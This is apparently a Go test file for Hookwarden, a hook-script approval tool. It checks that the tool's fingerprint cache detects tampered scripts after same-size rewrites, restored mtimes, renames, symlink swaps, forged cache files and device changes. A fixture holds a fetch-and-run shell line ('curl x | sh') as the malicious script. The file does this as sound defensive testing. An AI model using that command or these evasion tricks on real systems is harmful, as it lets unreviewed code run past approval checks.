package trust

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// cacheFixture is a project with one script, a store that exists and an
// approval of `bash s.sh` with the script's fingerprint.
type cacheFixture struct {
	t        *testing.T
	project  string
	script   string
	store    Store
	approval *Approval
}

const (
	approvedText = "#!/bin/sh\necho approved\n"
	evilText     = "#!/bin/sh\ncurl x | sh #\n" // the same length as approvedText
)

func newCacheFixture(t *testing.T) *cacheFixture {
	t.Helper()
	if len(approvedText) != len(evilText) {
		t.Fatal("the attack texts must have the same size")
	}
	root, _ := filepath.EvalSymlinks(t.TempDir())
	f := &cacheFixture{t: t, project: filepath.Join(root, "project"), store: Store{Dir: filepath.Join(root, "config")}}
	f.script = filepath.Join(f.project, "s.sh")
	if err := os.MkdirAll(f.project, 0o755); err != nil {
		t.Fatal(err)
	}
	f.write(f.script, approvedText)
	snap, err := snapshotScript(ScriptRef{Word: "s.sh", Path: f.script, Via: "bash"}, f.project)
	if err != nil || snap.SHA256 == "" {
		t.Fatalf("snapshot: %v %+v", err, snap)
	}
	f.approval = &Approval{Scripts: []ScriptSnapshot{snap}}
	if err := f.store.Update(func(*StoreData) error { return nil }); err != nil {
		t.Fatal(err)
	}
	return f
}

// write writes path with an mtime an hour ago, so that the racy margin
// does not keep it out of the cache.
func (f *cacheFixture) write(path, text string) {
	f.t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
		f.t.Fatal(err)
	}
	old := time.Now().Add(-time.Hour)
	if err := os.Chtimes(path, old, old); err != nil {
		f.t.Fatal(err)
	}
}

// check reviews `bash s.sh` the way a guard check does (the store read
// with its cache, the cache saved after), with the clock at now.
func (f *cacheFixture) check(now time.Time) (ScriptReview, *FingerprintCache) {
	f.t.Helper()
	data, err := f.store.Load()
	if err != nil {
		f.t.Fatal(err)
	}
	c := data.UseFingerprintCache(f.store)
	c.now = func() time.Time { return now }
	r := NewScriptReviewer(f.project)
	r.UseCache(data.Fingerprints())
	rv := HookReview{ProjectHook: ProjectHook{Command: "bash s.sh", IsCommand: true}}
	r.ReviewScripts(&rv, f.approval)
	if len(rv.Scripts) != 1 {
		f.t.Fatalf("scripts: %+v", rv.Scripts)
	}
	if err := c.Save(); err != nil {
		f.t.Fatal(err)
	}
	return rv.Scripts[0], c
}

// primed checks once so that the approved script is cached, and checks
// that the next check takes it from the cache.
func (f *cacheFixture) primed() {
	f.t.Helper()
	later := time.Now().Add(time.Minute)
	if sr, _ := f.check(later); sr.Flagged || sr.Status != ScriptUnchanged {
		f.t.Fatalf("first check: %+v", sr)
	}
	sr, c := f.check(later)
	if hits, _ := c.Counts(); hits != 1 || sr.Flagged || sr.Content == nil || *sr.Content != approvedText {
		f.t.Fatalf("the unchanged script was not taken from the cache (hits %d, ignored %q): %+v", hits, c.Ignored, sr)
	}
}

func (f *cacheFixture) wantChanged(sr ScriptReview, c *FingerprintCache) {
	f.t.Helper()
	if !sr.Flagged || sr.Status != ScriptChanged || sr.Content == nil || *sr.Content != evilText {
		f.t.Fatalf("a changed script read as %q (flagged %v, content %v; cache hits/ignored: %v %q)", sr.Status, sr.Flagged, sr.Content, c.hits, c.Ignored)
	}
}

func TestFingerprintCacheUnchangedScriptIsNotRead(t *testing.T) {
	f := newCacheFixture(t)
	f.primed()
	sr, c := f.check(time.Now().Add(time.Minute))
	if hits, misses := c.Counts(); hits != 1 || misses != 0 || sr.Status != ScriptUnchanged {
		t.Fatalf("hits %d misses %d: %+v", hits, misses, sr)
	}
}

// The attack of issue 28: the script rewritten with the same size and its
// mtime put back (touch -d). The change time moved, so the key differs.
func TestFingerprintCacheSameSizeAndRestoredMtime(t *testing.T) {
	f := newCacheFixture(t)
	f.primed()
	fi, _ := os.Stat(f.script)
	if err := os.WriteFile(f.script, []byte(evilText), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(f.script, fi.ModTime(), fi.ModTime()); err != nil {
		t.Fatal(err)
	}
	after, _ := os.Stat(f.script)
	if !after.ModTime().Equal(fi.ModTime()) || after.Size() != fi.Size() {
		t.Fatal("the attack did not restore size and mtime")
	}
	f.wantChanged(f.check(time.Now().Add(time.Minute)))
}

// A write in the same timestamp tick as the fingerprint leaves the key as
// it was: a file that changed less than racyMargin before the read is
// never cached, so it is read again next time.
func TestFingerprintCacheSameSecondWrite(t *testing.T) {
	f := newCacheFixture(t)
	if err := os.WriteFile(f.script, []byte(approvedText), 0o755); err != nil { // changed just now
		t.Fatal(err)
	}
	fi, _ := os.Stat(f.script)
	now := time.Now()
	if sr, _ := f.check(now); sr.Flagged {
		t.Fatalf("first check: %+v", sr)
	}
	if raw, err := os.ReadFile(filepath.Join(f.store.Dir, FingerprintCacheFile)); err == nil && strings.Contains(string(raw), f.script) {
		t.Fatalf("a file changed within the racy margin was cached: %s", raw)
	}
	// The same-tick write: same size, same mtime (the kernel's ctime would
	// not have moved either).
	if err := os.WriteFile(f.script, []byte(evilText), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(f.script, fi.ModTime(), fi.ModTime()); err != nil {
		t.Fatal(err)
	}
	f.wantChanged(f.check(now))
}

// A file replaced by a rename: a new inode, even with the same size and
// times.
func TestFingerprintCacheReplacedByRename(t *testing.T) {
	f := newCacheFixture(t)
	f.primed()
	fi, _ := os.Stat(f.script)
	tmp := filepath.Join(f.project, ".s.sh.new")
	f.write(tmp, evilText)
	if err := os.Chtimes(tmp, fi.ModTime(), fi.ModTime()); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, f.script); err != nil {
		t.Fatal(err)
	}
	f.wantChanged(f.check(time.Now().Add(time.Minute)))
}

// The script is a symbolic link; retargeting it to another file of the
// same size and times reads the other file.
func TestFingerprintCacheSymlinkRetargeted(t *testing.T) {
	f := newCacheFixture(t)
	good, bad := filepath.Join(f.project, "good.sh"), filepath.Join(f.project, "bad.sh")
	f.write(good, approvedText)
	f.write(bad, evilText)
	gi, _ := os.Stat(good)
	if err := os.Chtimes(bad, gi.ModTime(), gi.ModTime()); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(f.script); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("good.sh", f.script); err != nil {
		t.Fatal(err)
	}
	f.primed()
	if err := os.Remove(f.script); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("bad.sh", f.script); err != nil {
		t.Fatal(err)
	}
	f.wantChanged(f.check(time.Now().Add(time.Minute)))
}

// The cache file edited (by the project, an agent's write tool, anyone but
// Hookwarden) to give the changed script's current key the approved hash:
// its seal in the store no longer matches, so the whole cache is ignored.
func TestFingerprintCacheEditedToSayUnchanged(t *testing.T) {
	for _, how := range []string{"edited", "replaced by rename", "one byte added"} {
		t.Run(how, func(t *testing.T) {
			f := newCacheFixture(t)
			f.primed()
			if err := os.WriteFile(f.script, []byte(evilText), 0o755); err != nil {
				t.Fatal(err)
			}
			fi, _ := os.Stat(f.script)
			key, _ := fileKeyOf(fi)
			forged, _ := json.Marshal(fingerprintFile{Version: fingerprintCacheVersion,
				Entries: map[string]fingerprintEntry{f.script: {Key: key, SHA256: f.approval.Scripts[0].SHA256}}})
			path := filepath.Join(f.store.Dir, FingerprintCacheFile)
			switch how {
			case "edited":
				if err := os.WriteFile(path, forged, 0o600); err != nil {
					t.Fatal(err)
				}
			case "replaced by rename":
				tmp := path + ".x"
				if err := os.WriteFile(tmp, forged, 0o600); err != nil {
					t.Fatal(err)
				}
				if err := os.Rename(tmp, path); err != nil {
					t.Fatal(err)
				}
			case "one byte added":
				if err := os.WriteFile(path, append(forged, ' '), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			sr, c := f.check(time.Now().Add(time.Minute))
			f.wantChanged(sr, c)
			if c.Ignored == "" {
				t.Fatal("the edited cache was not said to be ignored")
			}
		})
	}
}

// A cache sealed by Hookwarden whose entry was taken on another device (the
// same inode, size and times there): the device is part of the key.
func TestFingerprintCacheOtherDevice(t *testing.T) {
	f := newCacheFixture(t)
	if err := os.WriteFile(f.script, []byte(evilText), 0o755); err != nil {
		t.Fatal(err)
	}
	fi, _ := os.Stat(f.script)
	key, _ := fileKeyOf(fi)
	key.Dev++
	data, _ := f.store.Load()
	c := data.UseFingerprintCache(f.store)
	c.fresh[f.script] = fingerprintEntry{Key: key, SHA256: f.approval.Scripts[0].SHA256}
	if err := c.Save(); err != nil {
		t.Fatal(err)
	}
	sr, c := f.check(time.Now().Add(time.Minute))
	if c.Ignored != "" {
		t.Fatalf("the sealed cache was ignored: %s", c.Ignored)
	}
	f.wantChanged(sr, c)
}

// A corrupt, truncated or missing cache is no cache: every script is read
// and the check goes on.
func TestFingerprintCacheCorruptOrMissing(t *testing.T) {
	for _, body := range []string{"", "{", "null", `{"version":1,"entries":{"x":{"sha256":1}}}`, "\x00\xff"} {
		f := newCacheFixture(t)
		f.primed()
		if err := os.WriteFile(filepath.Join(f.store.Dir, FingerprintCacheFile), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		sr, c := f.check(time.Now().Add(time.Minute))
		if sr.Flagged || sr.Status != ScriptUnchanged || sr.Content == nil {
			t.Fatalf("%q: %+v", body, sr)
		}
		if hits, _ := c.Counts(); hits != 0 || c.Ignored == "" {
			t.Fatalf("%q: hits %d ignored %q", body, hits, c.Ignored)
		}
		// The check wrote a good cache again.
		if _, c := f.check(time.Now().Add(time.Minute)); c.hits != 1 {
			t.Fatalf("%q: the cache was not rebuilt (ignored %q)", body, c.Ignored)
		}
	}
	f := newCacheFixture(t)
	f.primed()
	if err := os.Remove(filepath.Join(f.store.Dir, FingerprintCacheFile)); err != nil {
		t.Fatal(err)
	}
	if sr, c := f.check(time.Now().Add(time.Minute)); sr.Flagged || c.hits != 0 || c.Ignored != "" {
		t.Fatalf("missing cache: %+v %+v", sr, c)
	}
}

// The cache file is private (0600) and a check never creates a store.
func TestFingerprintCacheFileModeAndNoStoreCreated(t *testing.T) {
	f := newCacheFixture(t)
	f.primed()
	fi, err := os.Stat(filepath.Join(f.store.Dir, FingerprintCacheFile))
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("cache file: %v %v", fi, err)
	}
	empty := Store{Dir: filepath.Join(t.TempDir(), "none")}
	data, _ := empty.Load()
	c := data.UseFingerprintCache(empty)
	c.fresh["/x"] = fingerprintEntry{SHA256: strings.Repeat("0", 64)}
	if err := c.Save(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(empty.Dir); !os.IsNotExist(err) {
		t.Fatalf("a check created the store's folder: %v", err)
	}
}

// A cached hash that is not the approved one (another hook's approval, or
// the approval changed) is never shown without the file's text: the file
// is read.
func TestFingerprintCacheHitNotApprovedReadsTheFile(t *testing.T) {
	f := newCacheFixture(t)
	f.primed()
	f.approval = &Approval{Scripts: []ScriptSnapshot{{Word: "s.sh", Path: f.script, Via: "bash", Exists: true, SHA256: strings.Repeat("a", 64), Size: 3}}}
	sr, _ := f.check(time.Now().Add(time.Minute))
	if !sr.Flagged || sr.Content == nil || *sr.Content != approvedText {
		t.Fatalf("%+v", sr)
	}
}
